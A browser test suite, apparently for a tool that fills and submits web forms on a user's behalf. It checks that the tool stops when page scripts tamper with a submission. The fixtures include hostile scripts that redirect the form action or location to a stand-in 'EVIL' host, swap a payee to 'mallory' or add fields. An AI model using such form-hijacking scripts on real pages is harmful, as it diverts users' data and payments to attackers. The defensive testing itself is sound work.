import type { Page } from 'playwright';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import type { Outcome, PageRun, SentValue, Step, Submission } from '../../../../lib/model/index.ts';
import { fromPage } from '../../../../lib/run/outcome.ts';
import { OWN } from '../../../builders.ts';
import { spoken } from '../../../in-english.ts';
import { bundle, openPage, type Site, serve } from '../browser.ts';
import { testInTabs } from '../tabs.ts';

type Global = typeof globalThis & {
  readonly lens: typeof import('../../../../lib/page/act/execute.ts');
};

interface Exchange {
  readonly method: string;
  readonly path: string;
  readonly body: string;
}

interface Tab {
  readonly page: Page;
  markup: string;
  log: Exchange[];
  elsewhere: Exchange[];
}

let script: string;
let shop: Site;
let evil: Site;
const tabs = new Map<string, Tab>();
let opened = 0;
const strays: Exchange[] = [];

const server = (of: 'log' | 'elsewhere') =>
  serve((request, response) => {
    const tab = tabs.get(request.headers['user-agent'] ?? '');
    let body = '';
    request.on('data', (chunk) => {
      body += chunk;
    });
    request.on('end', () => {
      const path = request.url ?? '';
      if (path !== '/favicon.ico') (tab?.[of] ?? strays).push({ method: request.method ?? '', path, body });
      response.setHeader('content-type', 'text/html; charset=utf-8');
      const html = path === '/' && request.method === 'GET' ? tab?.markup : '<ul class=results><li>done';
      response.end(`<!doctype html><title>Shop</title>${html}`);
    });
  });

beforeAll(async () => {
  [script, shop, evil] = await Promise.all([
    bundle('lib/page/act/execute.ts', 'lens'),
    server('log'),
    server('elsewhere'),
  ]);
}, 60_000);
afterAll(async () => {
  await shop.close();
  await evil.close();
  expect(strays).toEqual([]);
});

async function openTab(): Promise<Tab> {
  const userAgent = `tab ${opened++}`;
  const tab: Tab = { page: await openPage({ userAgent }), markup: '', log: [], elsewhere: [] };
  tabs.set(userAgent, tab);
  return tab;
}

const test = testInTabs(openTab, async ({ page }) => {
  for (const other of page.context().pages()) if (other !== page) await other.close();
  await page.goto('about:blank');
});

const POST: Submission & { kind: 'form' } = {
  kind: 'form',
  method: 'post',
  url: '/order',
  enctype: 'application/x-www-form-urlencoded',
  target: '',
  fields: ['name', 'token'],
};
const GET: Submission = { ...POST, method: 'get', url: '/find' };

const NAME: SentValue = { name: 'name', label: '', shown: 'Ada', origin: 'given', parameter: 'name' };

const STEPS = (expects: Submission, trigger = '#f'): readonly Step[] => [
  { kind: 'fill', parameter: 'name', selector: '[name=name]', path: '[name=name]', value: 'Ada' },
  {
    kind: 'submit',
    selector: trigger,
    path: trigger,
    expects: 'url' in expects ? { ...expects, url: new URL(expects.url, shop.origin).href } : expects,
  },
  { kind: 'wait' },
];

async function run(
  tab: Tab,
  of: string,
  steps: readonly Step[],
  meanwhile = '',
  more: Partial<PageRun['plan']> = {},
): Promise<Outcome | null> {
  const { page } = tab;
  tab.markup = of.replaceAll('EVIL', evil.origin);
  await page.goto(`${shop.origin}/`);
  await page.evaluate(script);
  Object.assign(tab, { log: [], elsewhere: [] });
  const plan: PageRun['plan'] = {
    kind: 'page',
    url: `${shop.origin}/`,
    steps,
    action: 'awas:order',
    risk: 'change',
    consent: true,
    ...OWN,
    summary: [],
    warnings: [],
    ...more,
  } as PageRun['plan'];
  const given = { plan, deadline: Date.now() + 6_000, late: 500 } satisfies PageRun;
  const outcome = page.evaluate(
    ([json, code]) => {
      const { lens } = globalThis as Global;
      const { signal } = new AbortController();
      const progress = async (_: unknown, done: number): Promise<void> => {
        await new Promise((resolve) => setTimeout(resolve, 20));
        if (done > 1 && code) document.body.appendChild(document.createElement('script')).text = code;
      };
      return lens.executePage(document, JSON.parse(json as string) as PageRun, { progress }, signal);
    },
    [JSON.stringify(given), meanwhile],
  );
  const ended = await outcome.catch((error: Error) => {
    if (/context was destroyed|navigation/i.test(error.message)) return null;
    throw error;
  });
  if (ended === null) await page.waitForURL(({ pathname }) => pathname !== '/');
  return ended && spoken(fromPage(ended));
}

const FIELDS = '<input name=name><input type=hidden name=token value=1>';
const FORM = `<form id=f method=post action=/order>${FIELDS}<button>Order</button></form><iframe name=inner></iframe>`;
const withScript = (code: string, form = FORM): string =>
  `${form}<script>const form = document.querySelector('#f');${code}</script>`;
const onSubmit = (code: string): string =>
  withScript(`form.addEventListener('submit', (event) => { ${code} });`);
/** The listener is added while the event is running, so it runs after all others. */
const lastOnSubmit = (code: string): string =>
  onSubmit(`window.addEventListener('submit', (event) => { ${code} });`);
const onFormdata = (code: string): string =>
  withScript(`form.addEventListener('formdata', (event) => { ${code} });`);
const editor = (text: string): string =>
  withScript(
    `form.addEventListener('submit', () => { form.elements.namedItem('name').value = ${text} })`,
    FORM.replace(
      '<input name=name>',
      '<textarea name=name hidden></textarea><div id=text contenteditable role=textbox></div>',
    ),
  );
function filling(of: string, expects: Submission): readonly Step[] {
  const at = ['#text', '#it'].find((id) => of.includes(id.replace('#', 'id='))) ?? '[name=name]';
  return STEPS(expects).map((step) => (step.kind === 'fill' ? { ...step, selector: at, path: at } : step));
}
const FIELD = `const field = form.appendChild(document.createElement('input')); field.name = 'evil'; field.value = 1;`;

describe.concurrent('a filled field keeps its value to the last', () => {
  test.for<[string, string]>([
    ['as the form is sent', onSubmit("form.elements.namedItem('name').value = 'Eve'")],
    ['as its fields are listed', onFormdata("event.formData.set('name', 'Eve')")],
    ['where an editor writes it only then', editor("'Eve'")],
  ])('%s', async ([_name, of], { tab }) => {
    expect(await run(tab, of, filling(of, POST))).toMatchObject({
      code: 'destination-changed',
      message: expect.stringContaining('“name” is “Eve”, not “Ada”'),
    });
    expect(tab.log).toEqual([]);
  });
});

describe.concurrent('a field that the run has not filled keeps its value, too', () => {
  const PAYEE = FORM.replace('<button>', '<input type=hidden name=to value="alice 1/11 1.00"><button>');
  const AGREED = { ...POST, fields: ['name', 'token', 'to'] };
  const set = "form.elements.namedItem('to').value = ";
  const at = (event: string, code: string, on = 'form'): string =>
    withScript(`${on}.addEventListener('${event}', (event) => { ${code} });`, PAYEE);
  test.for<[what: string, of: string, now: string]>([
    ['as the form is sent', at('submit', `${set}'mallory'`), 'mallory'],
    ['by a listener that comes last', at('submit', `${set}'mallory'`, 'window'), 'mallory'],
    [
      'by one that stops all others',
      at('submit', `event.stopImmediatePropagation(); ${set}'mallory'`),
      'mallory',
    ],
    ['as its fields are listed', at('formdata', "event.formData.set('to', 'mallory')"), 'mallory'],
    [
      'by one value more',
      at('formdata', "event.formData.append('to', 'mallory')"),
      'alice 1/11 1.00, mallory',
    ],
    [
      'in every other list',
      at(
        'formdata',
        "globalThis.made = !globalThis.made; if (globalThis.made) event.formData.set('to', 'mallory')",
      ),
      'mallory',
    ],
    [
      'by form.submit(), later',
      at('submit', `event.preventDefault(); setTimeout(() => { ${set}'mallory'; form.submit() }, 50)`),
      'mallory',
    ],
    [
      'as the button is pressed',
      at('click', `${set}'mallory'`, "document.querySelector('button')"),
      'mallory',
    ],
  ])('%s', async ([_what, of, now], { tab }) => {
    expect(await run(tab, of, STEPS(AGREED))).toMatchObject({
      code: 'destination-changed',
      message: expect.stringContaining(`“to” is “${now}”, not “alice 1/11 1.00”`),
    });
    await tab.page.waitForTimeout(200);
    expect(tab.log).toEqual([]);
  });

  test.for<[what: string, code: string]>([
    ['a value', "location.href = '/order?to=mallory'"],
    ['one more', "location.href = '/order?to=alice+1/11+1.00&to=mallory'"],
  ])('in the address that a script opens in its place: %s', async ([_what, code], { tab }) => {
    expect(await run(tab, at('submit', `event.preventDefault(); ${code}`), STEPS(AGREED))).toMatchObject({
      code: 'destination-changed',
    });
    expect(tab.log).toEqual([]);
  });

  const stamped = (field: string, by = 'Date.now()'): string =>
    withScript(
      `form.addEventListener('submit', () => { ${set}${by} });`,
      FORM.replace('<button>', `${field}<button>`),
    );
  test.for<[what: string, of: string]>([
    ['one that is seen', stamped('<input name=to>')],
    ['instead of a text', stamped('<input name=to type=hidden value=alice>')],
    ['a time to come', stamped('<input name=to type=hidden>', 'Date.now() + 9e7')],
  ])('to the present time: %s', async ([_what, of], { tab }) => {
    expect(await run(tab, of, STEPS(AGREED))).toMatchObject({ code: 'destination-changed' });
    expect(tab.log).toEqual([]);
  });

  const copies = (field: string, other: string): string =>
    withScript(
      "form.addEventListener('input', ({ target }) => { form.querySelector('#to').value = target.value })",
      FORM.replace('<input name=name>', field).replace('<button>', `${other}<button>`),
    );
  test.for<[what: string, field: string, other: string]>([
    ['a hidden one', '<input name=name>', '<input id=to name=to type=hidden value=alice>'],
    ['one that is seen', '<input name=name>', '<input id=to name=to value=alice>'],
    [
      'a hidden one, from a longer text',
      '<textarea name=name></textarea>',
      '<input id=to name=to value=alice>',
    ],
    ['one that is seen, from one without a name', '<input id=it>', '<input id=to name=to value=alice>'],
  ])('that becomes what was given for another: %s', async ([_what, field, other], { tab }) => {
    const expects = { ...POST, fields: field.includes('name=') ? AGREED.fields : ['token', 'to'] };
    const of = copies(field, other);
    expect(await run(tab, of, filling(of, expects))).toMatchObject({
      code: 'rewritten',
      rewrites: [{ name: 'to', given: ['alice'], wrote: ['Ada'] }],
      filled: expect.arrayContaining([{ name: 'to', values: ['Ada'] }]),
    });
    expect(tab.log).toEqual([]);
  });

  test.for<[what: string, to: string]>([
    ['one that is seen', '<input name=to value=Ada>'],
    ['a hidden one', '<input type=hidden name=to value=Ada>'],
  ])('that has become it before the run goes on: %s', async ([_what, to], { tab }) => {
    const shown: SentValue = { name: 'to', label: '', shown: 'alice', origin: 'page-default' };
    const accepts = [{ name: 'x', label: '', parameter: 'x', given: ['a'], wrote: ['A'] }];
    const of = FORM.replace('<button>', `${to}<button>`);
    expect(await run(tab, of, STEPS(AGREED), '', { sends: [NAME, shown], accepts })).toMatchObject({
      code: 'destination-changed',
      message: expect.stringContaining('“to” is “Ada”, not “alice”'),
    });
    expect(tab.log).toEqual([]);
  });

  test.for<[what: string, to: string, values: readonly string[]]>([
    ['a hidden one', '<input type=hidden name=to value=a7>', ['a7']],
    ['several', '<input name=to value=Ada><input type=hidden name=to value=" ">', ['Ada', ' ']],
  ])('but not one that an earlier attempt has filled: %s', async ([_what, to, values], { tab }) => {
    const shown: SentValue = { name: 'to', label: '', shown: '', origin: 'hidden' };
    const of = FORM.replace('<button>', `${to}<button>`);
    const planned = (last: string) => ({
      sends: [NAME, shown],
      filled: [{ name: 'to', values: [...values.slice(0, -1), last] }],
    });
    expect(await run(tab, of, STEPS(AGREED), '', planned('other'))).toMatchObject({
      code: 'destination-changed',
    });
    expect(await run(tab, of, STEPS(AGREED), '', planned(values.at(-1)!))).toBeNull();
    await expect
      .poll(() => tab.log[0]?.body)
      .toContain(values.map((one) => `to=${one.trim() || '+'}`).join('&'));
  });

  test('in the query of a GET', async ({ tab }) => {
    const of = at('submit', `${set}'mallory'`).replace(
      'method=post action=/order',
      'method=get action=/find',
    );
    const expects = { ...GET, fields: ['name', 'token', 'to'] };
    expect(await run(tab, of, STEPS(expects))).toMatchObject({ code: 'destination-changed' });
    expect(tab.log).toEqual([]);
  });

  test.for<[what: string, code: string]>([
    ['at once', "fetch('/api', { method: 'POST', body: new FormData(form) })"],
    ['later', "setTimeout(() => fetch('/api', { method: 'POST', body: new FormData(form) }), 50)"],
  ])('or a script that changes it and sends it by itself is told of: %s', async ([_what, code], { tab }) => {
    const of = at('submit', `event.preventDefault(); ${set}'mallory'; ${code}`);
    expect(await run(tab, of, STEPS(AGREED))).toMatchObject({
      code: 'sent-differently',
      message: expect.stringContaining('“to” is “mallory”, not “alice 1/11 1.00”'),
    });
  });

  test.for<[what: string, of: string, body: string]>([
    [
      'an empty one that repeats what was given',
      copies('<input name=name>', '<input id=to name=to>'),
      'name=Ada&token=1&to=Ada',
    ],
    [
      'a hidden one that sends what a control without a name was given',
      copies('<input id=it>', '<input id=to name=to type=hidden value=Bo>'),
      'token=1&to=Ada',
    ],
    ['a token that is renewed', at('submit', 'form.elements.token.value = 2'), 'name=Ada&token=2&to=alice'],
    ['blanks around it', at('submit', `${set}' alice 1/11 1.00 '`), 'to=+alice'],
    ['a hidden one that gets the present time', stamped('<input name=to type=hidden>'), 'to=1'],
    [
      'a form that is set back once a script has read it',
      at(
        'submit',
        "event.preventDefault(); fetch('/api', { method: 'POST', body: new URLSearchParams(new FormData(form)) }).then(() => { location.href = '/thanks' }); form.reset()",
      ),
      'name=Ada&token=1&to=alice',
    ],
  ])('but for %s', async ([_what, of, body], { tab }) => {
    const expects = { ...POST, fields: of.includes('id=it') ? ['token', 'to'] : AGREED.fields };
    expect(await run(tab, of, filling(of, expects))).toBeNull();
    await expect.poll(() => tab.log[0]?.body).toContain(body);
  });
});

describe.concurrent('a given value that the page writes in its own way as it sends it', () => {
  test.for<[what: string, code: string, outcome: object]>([
    [
      'can be accepted where only its letters change',
      "'ADA'",
      { code: 'rewritten', rewrites: [{ wrote: ['ADA'] }] },
    ],
    ['can’t where it becomes another', "'Adam'", { code: 'destination-changed' }],
  ])('%s', async ([_what, value, outcome], { tab }) => {
    const of = onSubmit(`form.elements.namedItem('name').value = ${value}`);
    expect(await run(tab, of, STEPS(POST), '', { sends: [NAME] })).toMatchObject(outcome);
    expect(tab.log).toEqual([]);
  });
  test.for<[wrote: string, sent: boolean]>([
    ['ADA', true],
    ['ADa', false],
  ])('and is then sent like this, and in no other way: %s', async ([wrote, sent], { tab }) => {
    const of = onSubmit("form.elements.namedItem('name').value = 'ADA'");
    const accepts = [{ name: 'name', label: '', parameter: 'name', given: ['Ada'], wrote: [wrote] }];
    const outcome = await run(tab, of, STEPS(POST), '', { sends: [NAME], accepts });
    if (sent) await expect.poll(() => tab.log).toMatchObject([{ body: 'name=ADA&token=1' }]);
    else expect([outcome?.ok, tab.log]).toEqual([false, []]);
  });
});

const RANGE =
  "customElements.define('x-range', class extends HTMLElement { static formAssociated = true; constructor() { super(); const data = new FormData(); data.set('low', 1); data.set('high', 9); this.attachInternals().setFormValue(data); } })";

describe.concurrent('the approved values are sent', () => {
  test.for<[name: string, markup: string, expects: Submission, sent: readonly Partial<Exchange>[]]>([
    ['a POST', FORM, POST, [{ method: 'POST', path: '/order', body: 'name=Ada&token=1' }]],
    [
      'what an editor writes as its form is sent',
      editor("'<p>' + document.querySelector('#text').textContent + '</p>'"),
      POST,
      [{ method: 'POST', path: '/order', body: 'name=%3Cp%3EAda%3C%2Fp%3E&token=1' }],
    ],
    [
      'the field that a framework puts beside the control once it is filled',
      withScript(
        "const [text, choice] = [document.querySelector('#text'), document.querySelector('li')]; choice.addEventListener('click', () => { text.value = 'Ada'; text.setAttribute('aria-expanded', 'false'); text.insertAdjacentHTML('beforebegin', '<input type=hidden name=name value=7>'); })",
        FORM.replace(
          FIELDS,
          '<input id=text role=combobox aria-controls=all aria-expanded=true><ul id=all role=listbox><li role=option>Ada</ul><input type=hidden name=token value=1>',
        ),
      ),
      { ...POST, fields: ['token'] },
      [{ method: 'POST', path: '/order', body: 'name=7&token=1' }],
    ],
    [
      'the code of a choice in a field that can’t be typed into',
      withScript(
        "const [text, list] = [document.querySelector('#text'), document.querySelector('ul')]; text.onclick = () => { list.hidden = false; }; list.onclick = () => { text.value = 'Ada'; form.elements.namedItem('name').value = '7'; list.hidden = true; }",
        FORM.replace(
          '<input name=name>',
          '<div><input id=text readonly><ul hidden><li>Ada<li>Bo</ul><input type=hidden name=name></div>',
        ),
      ),
      POST,
      [{ method: 'POST', path: '/order', body: 'name=7&token=1' }],
    ],
    [
      'a custom element that sends several values',
      withScript(RANGE, FORM.replace('<button>', '<x-range name-start=low name-end=high></x-range><button>')),
      POST,
      [{ method: 'POST', path: '/order', body: 'name=Ada&token=1&low=1&high=9' }],
    ],
    [
      'a custom element that sends values under names of no attribute',
      withScript(RANGE, FORM.replace('<button>', '<x-range></x-range><button>')),
      POST,
      [{ method: 'POST', path: '/order', body: 'name=Ada&token=1&low=1&high=9' }],
    ],
    [
      'a custom element that only adds its value when the fields are listed',
      withScript(
        "customElements.define('x-name', class extends HTMLElement { constructor() { super(); this.attachShadow({ mode: 'open' }).innerHTML = '<input>' } connectedCallback() { form.addEventListener('formdata', ({ formData }) => formData.append('name', this.shadowRoot.firstChild.value)) } })",
        FORM.replace('<input name=name>', '<x-name name=name></x-name>'),
      ),
      { ...POST, fields: ['token'] },
      [{ method: 'POST', path: '/order', body: 'token=1&name=Ada' }],
    ],
    [
      'a GET',
      `<form id=f action="/find?old=1">${FIELDS}<button>Find</button></form>`,
      GET,
      [{ method: 'GET', path: '/find?name=Ada&token=1' }],
    ],
    [
      'multipart',
      FORM.replace('method', 'enctype=multipart/form-data method'),
      { ...POST, enctype: 'multipart/form-data' },
      [{ method: 'POST', path: '/order' }],
    ],
    [
      'later, by a script that held it up',
      onSubmit('event.preventDefault(); setTimeout(() => form.submit(), 300)'),
      POST,
      [{ method: 'POST', path: '/order' }],
    ],
    [
      'where a script only looks at the fields',
      onSubmit('if (![...new FormData(form).keys()].length) event.preventDefault()'),
      { ...POST, fields: ['name', 'token', 'by'] },
      [{ method: 'POST', path: '/order' }],
    ],
    [
      'where the fields change only after it was sent',
      onSubmit(
        "setTimeout(() => { for (const each of form.querySelectorAll('input')) each.disabled = true; })",
      ),
      POST,
      [{ method: 'POST', path: '/order', body: 'name=Ada&token=1' }],
    ],
    [
      'a box that the run itself has filled',
      FORM.replace('<button>', '<input type=checkbox name=token value=2><button>'),
      POST,
      [{ method: 'POST', path: '/order' }],
    ],
  ])('%s', async ([name, of, expects, sent], { tab }) => {
    const shown = name.includes('looks') ? of.replace('<button>', '<button name=by value=1>') : of;
    const sends = ['low', 'high'].map((one): SentValue => ({ name: one, label: '', origin: 'unknown' }));
    expect(await run(tab, shown, filling(shown, expects), '', { sends })).toBeNull();
    await expect.poll(() => tab.log).toMatchObject(sent);
    expect(tab.elsewhere).toEqual([]);
  });

  test('a link', async ({ tab }) => {
    const expects: Submission = { kind: 'link', url: '/out?a=1', target: '' };
    const steps = STEPS(expects, 'a').slice(1);
    expect(await run(tab, '<a href="/out?a=1">Out</a>', steps)).toBeNull();
    await expect.poll(() => tab.log).toMatchObject([{ method: 'GET', path: '/out?a=1' }]);
  });
});

describe.concurrent('a page that takes it over itself stays on its site, and that is noted', () => {
  const HANDLED = 'The page’s own script handled the form.';
  test('with a request of its own', async ({ tab }) => {
    const outcome = await run(
      tab,
      onSubmit(
        "event.preventDefault(); fetch('/api', { method: 'POST', body: new FormData(form) }).then(() => { document.title = 'Done'; document.body.append('Done') })",
      ),
      STEPS(POST),
    );
    expect(outcome).toMatchObject({ ok: true, notes: [HANDLED] });
    expect(tab.log).toMatchObject([{ method: 'POST', path: '/api' }]);
  });
  test('and leads on', async ({ tab }) => {
    expect(
      await run(tab, onSubmit("event.preventDefault(); location.href = '/thanks'"), STEPS(POST)),
    ).toBeNull();
    await expect.poll(() => tab.log).toMatchObject([{ method: 'GET', path: '/thanks' }]);
  });
  test('and changes its address only', async ({ tab }) => {
    const code =
      "event.preventDefault(); history.pushState(null, '', '/find?name=Ada'); document.body.append('Done')";
    expect(await run(tab, onSubmit(code), STEPS(POST))).toMatchObject({ ok: true, notes: [HANDLED] });
  });
  test('but leads nowhere else', async ({ tab }) => {
    const outcome = await run(
      tab,
      onSubmit("event.preventDefault(); location.href = 'EVIL/collect'"),
      STEPS(POST),
    );
    expect(outcome).toMatchObject({ ok: false, code: 'destination-changed' });
    expect(tab.elsewhere).toEqual([]);
  });
});

describe.concurrent('stops before the request', () => {
  test.for<[name: string, markup: string, message: RegExp]>([
    [
      'another action in its submit listener',
      onSubmit("form.action = 'EVIL/x'"),
      /goes to http:\S+\/x, not to http:\S+\/order/,
    ],
    ['another action in a listener that comes last', lastOnSubmit("form.action = 'EVIL/x'"), /./],
    ['the button’s own address', onSubmit("event.submitter.setAttribute('formaction', 'EVIL/x')"), /goes to/],
    [
      'another base',
      onSubmit("document.head.appendChild(document.createElement('base')).href = 'EVIL/'").replace(
        'action=/order',
        'action=order',
      ),
      /goes to/,
    ],
    [
      'form.submit() to elsewhere',
      onSubmit("event.preventDefault(); form.action = 'EVIL/x'; form.submit()"),
      /goes to/,
    ],
    [
      'another form of its own',
      onSubmit(
        "event.preventDefault(); const other = document.body.appendChild(form.cloneNode(true)); other.action = 'EVIL/x'; other.submit()",
      ),
      /goes to/,
    ],
    ['GET instead of POST', onSubmit("form.method = 'get'"), /sent by GET, not by POST/],
    ['another encoding', onSubmit("form.enctype = 'text/plain'"), /sent as text\/plain, not as/],
    ['a field added in formdata', onFormdata("event.formData.append('evil', 1)"), /also sends “evil”/],
    [
      'a field added in formdata by the last listener',
      onSubmit("window.addEventListener('formdata', (event) => event.formData.append('evil', 1))"),
      /./,
    ],
    [
      'a field taken away in formdata',
      onFormdata("event.formData.delete('token')"),
      /no longer sends “token”/,
    ],
    ['a field added by its submit listener', onSubmit(FIELD), /also sends “evil”/],
    ['another window', onSubmit("form.target = '_blank'"), /opens in a new window, not in the same window/],
    ['a frame', onSubmit("form.target = 'inner'"), /opens in the frame “inner”/],
    [
      'another frame and site by form.submit()',
      onSubmit("event.preventDefault(); form.target = 'inner'; form.action = 'EVIL/x'; form.submit()"),
      /goes to/,
    ],
    [
      'a second attempt after its own cancelling',
      withScript(
        "navigation.addEventListener('navigate', (event) => { event.preventDefault(); setTimeout(() => { form.action = 'EVIL/x'; form.submit() }) }, { once: true })",
      ),
      /goes to/,
    ],
    [
      'another action as soon as it is filled',
      withScript("form.addEventListener('input', () => { form.action = 'EVIL/x' })"),
      /goes to/,
    ],
  ])('%s', async ([name, of, message], { tab }) => {
    const outcome = await run(tab, of, STEPS(POST));
    if (/last/.test(name)) expect(outcome).toBeNull();
    else {
      const isScripts = of.includes("event.preventDefault(); form.target = 'inner'");
      expect(outcome).toMatchObject({
        ok: false,
        code: isScripts ? 'sent-differently' : 'destination-changed',
        message: expect.stringMatching(message),
        next: expect.any(String),
      });
      expect(tab.log).toEqual([]);
    }
    await tab.page.waitForTimeout(200);
    expect(tab.elsewhere).toEqual([]);
    expect(tab.log.filter(({ body }) => body.includes('evil'))).toEqual([]);
  });

  test('a new window by form.submit(), which Chromium opens all the same, gets nothing of the form', async ({
    tab,
  }) => {
    const outcome = await run(
      tab,
      onSubmit("event.preventDefault(); form.target = '_blank'; form.action = 'EVIL/x'; form.submit()"),
      STEPS(POST),
    );
    expect(outcome).toMatchObject({
      code: 'sent-differently',
      message: expect.stringContaining('opens in a new window'),
    });
    await tab.page.waitForTimeout(300);
    // A request may arrive in the new window, but it has no data.
    expect(tab.elsewhere.map(({ body }) => body).join('')).toBe('');
    expect(tab.log).toEqual([]);
  });

  test('a frame that a script names while it sends the form by itself: the form keeps its data', async ({
    tab,
  }) => {
    const outcome = await run(
      tab,
      onSubmit(
        "event.preventDefault(); form.target = 'inner'; fetch('/order', { method: 'POST', body: new URLSearchParams(new FormData(form)) })",
      ),
      STEPS(POST),
    );
    expect(outcome).toMatchObject({
      code: 'sent-differently',
      message: expect.stringContaining('may have sent'),
    });
    await tab.page.waitForTimeout(200);
    expect(tab.log.map(({ body }) => body)).toEqual([expect.stringContaining('token=')]);
  });

  test.for<[string, string]>([
    ['its action', "form.action = 'EVIL/x'"],
    ['its base', "document.head.insertAdjacentHTML('beforeend', '<base href=EVIL/>')"],
    ['its method', "form.method = 'get'"],
    ['a field', FIELD],
    ['its target', "form.target = 'inner'"],
    ['the whole form', 'form.outerHTML = form.outerHTML.replace("order", "EVIL/x")'],
  ])('%s swapped while the background is asked', async ([_, code], { tab }) => {
    const swap = `{ const form = document.querySelector('#f'); ${code.replaceAll('EVIL', evil.origin)} }`;
    const outcome = await run(tab, FORM.replace('action=/order', 'action=order'), STEPS(POST), swap);
    expect(outcome).toMatchObject({
      ok: false,
      code: expect.stringMatching(/^(?:destination-changed|not-runnable)$/),
    });
    expect([...tab.log, ...tab.elsewhere]).toEqual([]);
  });

  test.for<[name: string, markup: string, expects: Submission]>([
    ['a link that leads elsewhere', '<a id=f href=EVIL/x>Out</a>', { kind: 'link', url: '/out', target: '' }],
    [
      'a link that is one to elsewhere when it is clicked',
      '<a id=f href=/out onclick="this.href=\'EVIL/x\'">Out</a>',
      { kind: 'link', url: '/out', target: '' },
    ],
    [
      'a link that sends a form',
      `${FORM.replace('id=f', 'id=g')}<a id=f href=/out onclick="document.querySelector('#g').submit(); return false">Out</a>`,
      { kind: 'link', url: '/out', target: '' },
    ],
    ['a form where there was a script', FORM, { kind: 'script' }],
    ['a script where there was a form', '<button id=f>Go</button>', POST],
    [
      'a script that leaves its site',
      '<button id=f onclick="location.href=\'EVIL/x\'">Go</button>',
      { kind: 'script' },
    ],
    [
      'a script that sends a form to elsewhere',
      '<button id=f onclick="document.forms[0].submit()">Go</button><form method=post action=EVIL/x></form>',
      { kind: 'script' },
    ],
    [
      'a form of a frame that sends elsewhere',
      '<iframe srcdoc="<form method=post action=EVIL/x></form>"></iframe><button id=f onclick="frames[0].document.forms[0].target = \'_top\'; frames[0].document.forms[0].submit()">Go</button>',
      { kind: 'script' },
    ],
  ])('%s', async ([_, of, expects], { tab }) => {
    const outcome = await run(tab, of, STEPS(expects).slice(1));
    expect(outcome).toMatchObject({ ok: false, code: 'destination-changed' });
    await tab.page.waitForTimeout(200);
    expect([...tab.log, ...tab.elsewhere]).toEqual([]);
  });

  test('in a frame of the page', async ({ tab }) => {
    const inner = `<form id=f method=post action=/order>${FIELDS}<button>Order</button></form><script>document.forms[0].onsubmit = () => { document.forms[0].action = 'EVIL/x' }</script>`;
    const steps = STEPS(POST).map((step) => ('selector' in step ? { ...step, within: ['iframe'] } : step));
    const outcome = await run(tab, `<iframe srcdoc="${inner.replaceAll('"', "'")}"></iframe>`, steps);
    expect(outcome).toMatchObject({ ok: false, code: 'destination-changed' });
    expect([...tab.log, ...tab.elsewhere]).toEqual([]);
  });

  test('and leaves the page as it was', async ({ tab }) => {
    await run(tab, onFormdata("form.target = '_blank'"), STEPS(POST));
    expect(await tab.page.evaluate(() => document.querySelector('#f')?.nextElementSibling?.tagName)).toBe(
      'IFRAME',
    );
    await tab.page.evaluate(() => {
      const send = (): void => {
        const form = document.querySelector<HTMLFormElement>('#f')!;
        form.target = '';
        form.action = '/later';
        form.submit();
      };
      send();
      setTimeout(send, 2_500);
    });
    await tab.page.waitForURL('**/later');
    expect(tab.log).toMatchObject([{ method: 'POST', path: '/later' }]);
  });
});

describe.concurrent('acts on exactly what was planned', () => {
  test('clicks a marked element, whatever it is, and presses no key', async ({ tab }) => {
    const of =
      '<input name=name onkeydown="document.body.append(\'key \' + event.key)"><div id=f onclick="document.body.append(\'clicked\')">Go</div>';
    expect(await run(tab, of, STEPS({ kind: 'script' }))).toMatchObject({ ok: true });
    const text = await tab.page.evaluate(() => document.body.textContent);
    expect(text).toContain('clicked');
    expect(text).not.toContain('key Enter');
  });

  const TWO = `<form id=g action=/other method=post><input name=name><button>No</button></form>${FORM}`;
  test('not on what is nearest', async ({ tab }) => {
    const steps = STEPS(POST).map((step) =>
      step.kind === 'fill' ? { ...step, path: '#f > [name=name]' } : step,
    );
    expect(await run(tab, TWO, steps)).toBeNull();
    await expect.poll(() => tab.log).toMatchObject([{ path: '/order', body: 'name=Ada&token=1' }]);
  });
  test('finds it again if the page has moved it', async ({ tab }) => {
    const steps = STEPS(POST).map((step) =>
      step.kind === 'fill' ? { ...step, path: 'body > :nth-child(9)' } : step,
    );
    expect(await run(tab, TWO, steps)).toBeNull();
    await expect.poll(() => tab.log).toMatchObject([{ path: '/order', body: 'name=Ada&token=1' }]);
  });
  test('and says so if it is gone', async ({ tab }) => {
    const outcome = await run(tab, '<p>Sold out', STEPS(POST).slice(1));
    expect(outcome).toMatchObject({
      ok: false,
      code: 'page-changed',
      message: expect.stringContaining('is gone'),
    });
  });
});
